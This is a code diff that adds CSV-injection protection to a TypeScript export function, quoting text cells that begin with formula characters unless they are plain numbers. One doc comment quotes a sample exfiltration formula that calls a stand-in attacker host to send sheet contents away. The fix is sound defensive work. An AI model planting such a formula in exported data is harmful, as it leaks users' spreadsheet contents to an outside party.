@@ -540,7 +540,7 @@ export function mergedAnswerCells(
 
 // ---- formatting ----
 
-/** A CSV field: booleans `true`/`false`, numbers at full precision, no answer empty. */
+/** A CSV field: booleans `true`/`false`, numbers at full precision, no answer empty, text never a formula. */
 export function csvField(value: CellValue): string {
   if (value === null) return "";
   if (typeof value === "boolean") return value ? "true" : "false";
@@ -548,7 +548,24 @@ export function csvField(value: CellValue): string {
   // result in V8's number-to-string cache, which holds it past young-generation collections: over an export of
   // 100k rows those strings piled up as ~40 MB of old-generation garbage before a full collection.
   if (typeof value === "number" && Number.isFinite(value)) return JSON.stringify(value);
-  return String(value);
+  return neutralizeFormula(String(value));
+}
+
+/** A text that is only a number: a spreadsheet reads it as that number, never as a formula. */
+const numericText = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
+
+/**
+ * Excel, LibreOffice and Sheets run a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
+ * formula (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the sheet away): such a text gets a leading `'`,
+ * as OWASP's "CSV injection" advice says. A text that is a plain number (`-12.5`, `+996`) stays as written.
+ */
+export function neutralizeFormula(text: string): string {
+  const first = text.charCodeAt(0);
+  // = + - @ TAB CR
+  if (first !== 0x3d && first !== 0x2b && first !== 0x2d && first !== 0x40 && first !== 0x09 && first !== 0x0d) {
+    return text;
+  }
+  return numericText.test(text) ? text : `'${text}`;
 }
 
 const csvSpecial = /[",\r\n]/;
